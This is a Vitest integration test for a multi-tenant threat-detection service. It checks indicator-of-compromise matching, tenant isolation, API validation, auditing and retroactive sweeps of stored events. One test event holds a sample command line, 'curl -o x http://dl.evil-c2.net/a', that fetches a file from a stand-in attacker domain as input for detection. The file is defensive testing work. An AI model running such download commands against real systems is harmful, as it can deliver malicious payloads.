import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { api, everyTenantToken, provision, type RunningService, startService } from '../helpers/serve.js';

const RULE = `title: Never fires
id: 5b0e1f7e-0000-4000-8000-00000000e412
logsource: { product: lab }
detection:
  selection: { action: never }
  condition: selection
level: low
`;

const HASH = '2d41a174ea0589f39aa267f829870131ae18cff1b19648c118dc5a00aeaf078b';

function event(host: string, minute: number, fields: Record<string, string>): string {
  return JSON.stringify({
    host,
    time: new Date(Date.parse('2026-01-01T10:00:00Z') + minute * 60_000).toISOString(),
    ...fields,
  });
}

async function waitProcessed(service: RunningService, token: string) {
  for (let i = 0; i < 300; i++) {
    const stats = await api(service, token, 'GET', '/api/v1/stats');
    if (stats.body.processed === stats.body.accepted) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error('detection did not catch up');
}

describe('vigil serve: indicators per tenant and for all, matched live and swept when added', () => {
  let dir: string;
  let data: string;
  let service: RunningService;
  let acme: Record<string, string>;
  let globex: Record<string, string>;
  let root: string;

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'vigil-serve-iocs-'));
    data = join(dir, 'data');
    mkdirSync(join(dir, 'rules'));
    writeFileSync(join(dir, 'rules', 'never.yml'), RULE);
    writeFileSync(join(dir, 'everyone.txt'), '# shared feed\nevil-c2.net\n');
    writeFileSync(join(dir, 'acme.txt'), '198.51.100.7 # seen at acme\nbroken value\n');
    acme = await provision(data, 'acme', ['ingest', 'viewer', 'admin']);
    globex = await provision(data, 'globex', ['ingest', 'viewer', 'admin']);
    root = await everyTenantToken(data, 'admin');
    writeFileSync(
      join(data, 'config.yml'),
      `indicators:\n  global: [${join(dir, 'everyone.txt')}]\n  tenants:\n    acme: [${join(dir, 'acme.txt')}]\n`,
    );
    service = await startService(data, ['--rules', join(dir, 'rules')], { VIGIL_HOME: join(dir, 'home') });
  }, 120_000);

  afterAll(async () => {
    service?.process.kill('SIGTERM');
    await service?.exited;
    rmSync(dir, { recursive: true, force: true });
  });

  it('matches the global indicators for every tenant and a tenant its own only, grouped into alerts', async () => {
    expect(service.log()).toMatch(/indicator skipped: .*acme\.txt:2: 'broken value'/);
    const send = (token: string | undefined, lines: string[]) =>
      api(service, token, 'POST', '/api/v1/events', lines.join('\n'), 'application/x-ndjson');
    await send(acme.ingest, [
      event('acme-ws', 0, { CommandLine: 'curl -o x http://dl.evil-c2.net/a' }),
      event('acme-ws', 1, { CommandLine: 'ping evil-c2.net' }),
      event('acme-ws', 2, { DestinationIp: '198.51.100.7' }),
      event('acme-ws', 3, { Hashes: `SHA256=${HASH.toUpperCase()}` }),
    ]);
    await send(globex.ingest, [
      event('globex-db', 0, { 'dns.question.name': 'www.evil-c2.net' }),
      event('globex-db', 1, { DestinationIp: '198.51.100.7' }),
    ]);
    await waitProcessed(service, root);

    const acmeAlerts = (await api(service, acme.viewer, 'GET', '/api/v1/alerts')).body.alerts;
    expect(
      acmeAlerts
        .map((a: { rule: { id: string }; count: number; host: string }) => [a.rule.id, a.count, a.host])
        .sort(),
    ).toEqual([
      ['ioc:domain', 2, 'acme-ws'],
      ['ioc:ipv4', 1, 'acme-ws'],
    ]);
    const detail = await api(
      service,
      acme.viewer,
      'GET',
      `/api/v1/alerts/${acmeAlerts.find((a: { rule: { id: string } }) => a.rule.id === 'ioc:ipv4').id}`,
    );
    expect(detail.body.detections[0].indicator).toMatchObject({
      value: '198.51.100.7',
      source: join(dir, 'acme.txt'),
      field: 'DestinationIp',
      // A documentation range: the warning lists lower it, and the match is still an alert.
      note: expect.stringMatching(/^seen at acme; on the MISP warning list/),
    });
    const globexAlerts = (await api(service, globex.viewer, 'GET', '/api/v1/alerts')).body.alerts;
    expect(globexAlerts.map((a: { rule: { id: string } }) => a.rule.id)).toEqual(['ioc:domain']);
    expect((await api(service, root, 'GET', '/api/v1/indicators')).body).toEqual({
      global: 1,
      tenants: { acme: 1 },
    });
  });

  it('takes new indicators through the API: audited, swept over stored events, then matched live', async () => {
    expect(
      (
        await api(service, acme.viewer, 'POST', '/api/v1/indicators', {
          indicators: [{ type: 'md5', value: 'x' }],
        })
      ).status,
    ).toBe(403);
    const refused = await api(service, acme.admin, 'POST', '/api/v1/indicators', {
      indicators: [{ type: 'md5', value: 'x' }],
    });
    expect(refused.status).toBe(400);
    expect(refused.body.error.message).toContain("[0].value: 'x': not a md5 hash");

    const added = await api(service, acme.admin, 'POST', '/api/v1/indicators', {
      indicators: [
        { type: 'sha256', value: HASH, source: 'incident 42', confidence: 90 },
        { type: 'ipv4', value: 'not an address' },
      ],
    });
    expect(added.status).toBe(202);
    expect(added.body).toMatchObject({
      tenant: 'acme',
      added: 1,
      refused: [{ code: 'IOC_INVALID', field: '[1].value' }],
    });
    expect(added.body.hunts).toHaveLength(1);

    // Yesterday's event holding today's indicator: the sweep finds it.
    let hunt = added.body.hunts[0];
    for (let i = 0; i < 300 && hunt.status === 'running'; i++) {
      await new Promise((r) => setTimeout(r, 100));
      hunt = (await api(service, acme.viewer, 'GET', `/api/v1/hunts/${hunt.id}`)).body;
    }
    expect(hunt).toMatchObject({ status: 'done', rules: '1 indicators', events: 4, detections: 1 });
    expect(hunt.results[0]).toMatchObject({
      rule: { id: 'ioc:sha256' },
      host: 'acme-ws',
      indicator: { value: HASH, source: 'incident 42', field: 'Hashes' },
    });

    // From now on, matched as events arrive.
    await api(
      service,
      acme.ingest,
      'POST',
      '/api/v1/events',
      event('acme-ws2', 10, { 'file.hash.sha256': HASH }),
      'application/x-ndjson',
    );
    await waitProcessed(service, root);
    const alerts = (await api(service, acme.viewer, 'GET', '/api/v1/alerts?rule=ioc:sha256')).body.alerts;
    expect(alerts.map((a: { host: string; rule: { level: string } }) => [a.host, a.rule.level])).toEqual([
      ['acme-ws2', 'high'],
    ]);

    const audit = (await api(service, root, 'GET', '/api/v1/audit')).body.entries;
    expect(audit.find((e: { action: string }) => e.action === 'indicators.add')).toMatchObject({
      tenant: 'acme',
      details: { indicators: 1, refused: 1 },
    });
    // Other tenants see none of it.
    expect((await api(service, globex.viewer, 'GET', '/api/v1/hunts')).body.hunts).toEqual([]);
    expect((await api(service, globex.viewer, 'GET', '/api/v1/indicators')).body).toEqual({
      global: 1,
      tenants: {},
    });
  });
});
